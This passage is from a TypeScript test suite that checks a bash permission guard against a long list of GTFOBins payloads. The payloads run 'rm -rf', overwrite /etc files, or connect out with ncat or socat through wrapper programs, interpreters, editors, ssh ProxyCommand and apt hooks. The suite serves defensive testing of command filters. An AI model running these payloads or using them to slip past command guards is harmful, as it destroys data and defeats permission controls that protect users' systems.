  "zsh -c 'echo DATA > /etc/x'",
  "busybox sh -c 'rm -rf /tmp/x'",
  "busybox rm -rf /tmp/x",
  "env rm -rf /tmp/x",
  "env -i rm -rf /tmp/x",
  "env -S 'rm -rf /tmp/x'",
  "nice rm -rf /tmp/x",
  "nice -n 5 rm -rf /tmp/x",
  "ionice rm -rf /tmp/x",
  "ionice -c 3 rm -rf /tmp/x",
  "stdbuf -i0 rm -rf /tmp/x",
  "stdbuf -o L rm -rf /tmp/x",
  "taskset 1 rm -rf /tmp/x",
  "taskset -c 0 rm -rf /tmp/x",
  "timeout 7d rm -rf /tmp/x",
  "timeout --foreground 7d rm -rf /tmp/x",
  "time rm -rf /tmp/x",
  "/usr/bin/time rm -rf /tmp/x",
  "/usr/bin/time -o /etc/x echo DATA",
  "setarch x86_64 rm -rf /tmp/x",
  "setarch x86_64 -R rm -rf /tmp/x",
  "flock -u / rm -rf /tmp/x",
  "flock /tmp/l -c 'rm -rf /tmp/x'",
  "nohup rm -rf /tmp/x",
  "setsid rm -rf /tmp/x",
  "unshare rm -rf /tmp/x",
  "unshare -r rm -rf /tmp/x",
  "nsenter rm -rf /tmp/x",
  "strace -o /dev/null rm -rf /tmp/x",
  "strace -s 999 -o /etc/x strace - DATA",
  "ltrace -b -L rm -rf /tmp/x",
  "ltrace -s 999 -o /etc/x ltrace -F DATA",
  "valgrind rm -rf /tmp/x",
  "xargs -a /dev/null rm -rf /tmp/x",
  "echo x | xargs rm -rf /tmp/x",
  "watch -x rm -rf /tmp/x",
  "watch 'rm -rf /tmp/x'",
  "script -q /dev/null -c 'rm -rf /tmp/x'",
  "script -qc 'rm -rf /tmp/x' /dev/null",
  "script -q -c 'echo DATA' /etc/x",
  "rlwrap rm -rf /tmp/x",
  "rlwrap -l /etc/x echo DATA",
  "logsave /dev/null rm -rf /tmp/x",
  "logsave /etc/x echo DATA",
  "cpulimit -l 100 -f rm -rf /tmp/x",
  "cpulimit -l 100 -f -- rm -rf /tmp/x",
  "perf stat rm -rf /tmp/x",
  "perf record -o /dev/null rm -rf /tmp/x",
  "capsh -- -c 'rm -rf /tmp/x'",
  "chrt -o 0 rm -rf /tmp/x",
  "prlimit rm -rf /tmp/x",
  "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /tmp/x",
  "ssh-agent rm -rf /tmp/x",
  "unbuffer rm -rf /tmp/x",
  "echo x | msgfilter -P rm -rf /tmp/x",
  "awk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
  "awk 'BEGIN {while (\"rm -rf /tmp/x\" | getline) print}'",
  "awk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
  "gawk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
  "gawk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
  "mawk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
  "mawk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
  "nawk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
  "nawk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
  "perl -e 'exec \"rm -rf /tmp/x\";'",
  "perl -e 'system(\"rm -rf /tmp/x\")'",
  "echo 'system(\"rm -rf /tmp/x\")' | perl",
  "python3 -c 'import os; os.system(\"rm -rf /tmp/x\")'",
  "echo 'import os; os.system(\"rm -rf /tmp/x\")' | python3",
  "lua -e 'os.execute(\"rm -rf /tmp/x\")'",
  "lua -e 'io.open(\"/etc/x\", \"w\"):write(\"DATA\")'",
  "node -e 'require(\"child_process\").execSync(\"rm -rf /tmp/x\")'",
  "echo 'exec rm -rf /tmp/x' | tclsh",
  "expect -c 'exec rm -rf /tmp/x'",
  "dc -e '!rm -rf /tmp/x'",
  "echo '!rm -rf /tmp/x' | dc",
  "echo 'esyscmd(rm -rf /tmp/x)' | m4",
  "m4 <<< 'syscmd(rm -rf /tmp/x)'",
  "vim -c ':!rm -rf /tmp/x'",
  "vim -c ':w /etc/x' -c ':q'",
  "vim --cmd ':silent !rm -rf /tmp/x'",
  "vim -es -c '!rm -rf /tmp/x' -c ':q'",
  "vi -c ':!rm -rf /tmp/x'",
  "vi +':!rm -rf /tmp/x'",
  "view -c ':!rm -rf /tmp/x'",
  "vimdiff -c ':!rm -rf /tmp/x'",
  "ex -c ':!rm -rf /tmp/x'",
  "echo '!rm -rf /tmp/x' | ex",
  "echo '!rm -rf /tmp/x' | ed",
  "ed -s a.txt <<< '!rm -rf /tmp/x'",
  "printf '!rm -rf /tmp/x\\nq\\n' | ed",
  "LESSOPEN='|rm -rf /tmp/x %s' less a.txt",
  "git diff --no-index --output=/etc/x a.txt b.txt",
  "echo '!rm -rf /tmp/x' | debugfs",
  "printf '.PS\\nsh X rm -rf /tmp/x X\\n.PE\\n' | pic -U",
  "gdb -nx -ex '!rm -rf /tmp/x' -ex quit",
  "gdb -nx -ex 'python import os; os.system(\"rm -rf /tmp/x\")' -ex quit",
  "echo 'shell rm -rf /tmp/x' | gdb -nx",
  "mysql -e '\\! rm -rf /tmp/x'",
  "mysql -e 'system rm -rf /tmp/x'",
  "echo '\\! rm -rf /tmp/x' | mysql",
  "psql -c '\\! rm -rf /tmp/x'",
  "echo '\\! rm -rf /tmp/x' | psql",
  "sqlite3 /dev/null '.shell rm -rf /tmp/x'",
  "echo '.shell rm -rf /tmp/x' | sqlite3",
  "sqlite3 /dev/null -cmd '.output /etc/x' 'select 1;'",
  "tmux -c 'rm -rf /tmp/x'",
  "find . -exec rm -rf /tmp/x \\; -quit",
  "find . -execdir rm -rf /tmp/x \\; -quit",
  "find / -fprintf /etc/x DATA -quit",
  "sed -n '1e rm -rf /tmp/x' /etc/hosts",
  "sed 's/.*/rm -rf \\/tmp\\/x/e' /etc/hosts",
  "sed -n 'w /etc/x' a.txt",
  "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /tmp/x'",
  "zip /tmp/y.zip /etc/hosts -T -TT 'rm -rf /tmp/x #'",
  "rsync -e 'sh -c \"rm -rf /tmp/x\"' 127.0.0.1:/dev/null",
  "ssh -o ProxyCommand=';rm -rf /tmp/x 0<&2 1>&2' x",
  "scp -o ProxyCommand=';rm -rf /tmp/x 0<&2 1>&2' x y:",
  "split --filter 'rm -rf /tmp/x' a.txt",
  "csvtool call 'rm -rf /tmp/x;false' a.csv",
  "csvtool trim t -o /etc/x a.csv",
  "make -s --eval=$'x:\\n\\t-rm -rf /tmp/x'",
  "npm exec -c 'rm -rf /tmp/x'",
  "enscript /dev/null -qo /dev/null -I 'rm -rf /tmp/x'",
  "socat stdin exec:'rm -rf /tmp/x'",
  "socat - SYSTEM:'rm -rf /tmp/x'",
  "socat -u tcp-connect:10.0.0.1:4444 open:/etc/x,creat",
  "ncat -c 'rm -rf /tmp/x' 10.0.0.1 4444",
  "ncat --sh-exec 'rm -rf /tmp/x' 10.0.0.1 4444",
  "echo DATA | openssl enc -out /etc/x",
  "openssl s_client -quiet -connect 10.0.0.1:4444 -msgfile /etc/x",
  "wget -O /etc/x http://h/y",
  "curl file:///etc/hosts -o /etc/x",
  "iconv -f 8859_1 -t 8859_1 -o /etc/x a.txt",
  "shuf -e DATA -o /etc/x",
  "uniq a.txt /etc/x",
  "echo 44415441 | xxd -r -p - /etc/x",
  "uudecode -o /etc/x a.uu",
  "echo DATA | dd of=/etc/x",
  "sort -o /etc/x a.txt",
  "echo '.sy rm -rf /tmp/x' | groff -U",
  "apt-get update -o APT::Update::Pre-Invoke::='rm -rf /tmp/x'",
]);

const guardFor = (bin: GtfoBinary) => bashGuard([...(bin.allow ?? [`${bin.bin}:*`]), ...ALWAYS_ALLOWED], DENY, `gtfobins-${bin.bin}`);

describe("GTFOBins: no payload of a permitted program is allowed; a payload whose inner command a deny names is denied", () => {
  for (const bin of BINARIES) {
    describe(`${bin.bin} (${bin.functions}) [gtfobins.github.io/gtfobins/${bin.bin}]`, () => {
      const guard = guardFor(bin);
      it.each(bin.cases.map((c) => [c.command, c] as const))("%s", (_command, c) => expectBashDecision(guard, c.command, c.expect, c.reason));
    });
  }
  it("covers at least 120 binaries", () => expect(new Set(BINARIES.map((bin) => bin.bin)).size).toBeGreaterThanOrEqual(120));
});

/** A payload as run for real: the inner command touches MARKER, the protected file is the scratch file OUT. */
const harmless = (command: string) => command.replaceAll(X, "touch MARKER").replaceAll(X.replace(/\//g, "\\/"), "touch MARKER").replaceAll("/etc/x", "OUT");
// Payloads whose hooks run outside the scratch directory, need the network, or change the machine are not run again.
const NOT_RERUN = /^(?:apt-get|apt) |cpan|^curl |^wget /;

describe.skipIf(process.env.GG_GTFOBINS_RUN !== "1")("GTFOBins: the confirmed payloads run their inner command for real", () => {
  const cases = BINARIES.flatMap((bin) => bin.cases.filter((c) => CONFIRMED_HERE.has(c.command) && !NOT_RERUN.test(c.command)).map((c) => [c.command, bin.bin] as const));
  it("every confirmed payload is a case of the sweep", () => {
    const all = new Set(BINARIES.flatMap((bin) => bin.cases.map((c) => c.command)));
    expect([...CONFIRMED_HERE].filter((command) => !all.has(command))).toEqual([]);
  });
  it.each(cases)("%s", (command, bin) => {
    // A program not installed here is judged by GTFOBins alone (its case in the sweep still runs).
    if (!installed(bin)) return;
    const run = leavesMarker(harmless(command));
    expect(run.left, `${harmless(command)}: ${run.stderr}`).toBe(true);
  }, 20_000);
});
